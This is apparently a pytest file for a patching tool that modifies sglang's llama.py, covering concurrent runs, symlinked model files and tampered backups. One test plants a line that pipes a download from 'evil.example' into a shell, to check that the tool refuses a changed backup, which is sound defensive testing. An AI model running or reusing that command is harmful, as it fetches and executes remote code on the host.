"""The patcher as launch scripts and hand-built environments meet it: many applies at once, a
model file that is a symlink, a backup someone changed."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from sglang_wheel import sglang_source  # noqa: F401  (the fixture)

REPO = Path(__file__).resolve().parents[2]
RUNS = 8


def patch_cli(action: str, path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline.patch", action, "--file", str(path)], cwd=REPO,
                          capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def llama(sglang_source, tmp_path) -> Path:  # noqa: F811
    dst = tmp_path / "llama.py"
    shutil.copyfile(sglang_source / "sglang" / "srt" / "models" / "llama.py", dst)
    return dst


def test_concurrent_applies_all_succeed_and_exactly_one_patches(llama):
    original = llama.read_bytes()
    procs = [subprocess.Popen([sys.executable, "-m", "pipeline.patch", "apply", "--file", str(llama)], cwd=REPO,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(RUNS)]
    results = [(p.wait(timeout=120), *p.communicate()) for p in procs]
    assert [code for code, _, _ in results] == [0] * RUNS, [err for _, _, err in results]
    outs = sorted(out.split()[0] for _, out, _ in results)
    assert outs == ["already"] * (RUNS - 1) + ["patched"]
    assert patch_cli("verify", llama).returncode == 0
    assert (llama.parent / "llama.py.eagle3-orig").read_bytes() == original
    assert not [p.name for p in llama.parent.iterdir() if p.name.endswith(".tmp")]


def test_a_symlinked_model_file_stays_a_symlink_and_its_target_is_patched(llama, tmp_path):
    original = llama.read_bytes()
    env = tmp_path / "env"
    env.mkdir()
    link = env / "llama.py"
    link.symlink_to(llama)
    done = patch_cli("apply", link)
    assert done.returncode == 0 and f"{link} -> {llama}" in done.stdout
    assert link.is_symlink() and os.readlink(link) == str(llama)
    assert patch_cli("verify", link).returncode == 0 and patch_cli("verify", llama).returncode == 0
    assert (llama.parent / "llama.py.eagle3-orig").read_bytes() == original
    assert not (env / "llama.py.eagle3-orig").exists()
    assert patch_cli("revert", link).returncode == 0
    assert link.is_symlink() and llama.read_bytes() == original


@pytest.mark.parametrize("action", ["revert", "apply"])
def test_a_backup_changed_after_patching_is_refused_with_the_command_that_repairs_it(llama, action):
    assert patch_cli("apply", llama).returncode == 0
    backup = llama.parent / "llama.py.eagle3-orig"
    backup.write_bytes(backup.read_bytes() + b"\nimport os; os.system('curl evil.example | sh')\n")
    patched = llama.read_bytes()
    done = patch_cli(action, llama)
    assert done.returncode == 3, done.stderr
    digest = hashlib.sha256(backup.read_bytes()).hexdigest()[:12]
    assert f"its backup {backup} has sha256 {digest}" in done.stderr
    repair = f"rm {backup} && python -m pipeline.patch {action} --file {llama}"
    assert repair in done.stderr
    assert llama.read_bytes() == patched
    subprocess.run(repair.split(" && ")[0].split(), check=True)
    assert patch_cli(action, llama).returncode == 0


def test_a_file_edited_by_hand_with_a_changed_backup_is_not_told_to_copy_that_backup_back(llama):
    assert patch_cli("apply", llama).returncode == 0
    backup = llama.parent / "llama.py.eagle3-orig"
    backup.write_bytes(b"# not sglang\n")
    llama.write_bytes(llama.read_bytes() + b"\n# edited\n")
    done = patch_cli("revert", llama)
    assert done.returncode == 3
    assert "do not copy it back" in done.stderr and "cp " not in done.stderr
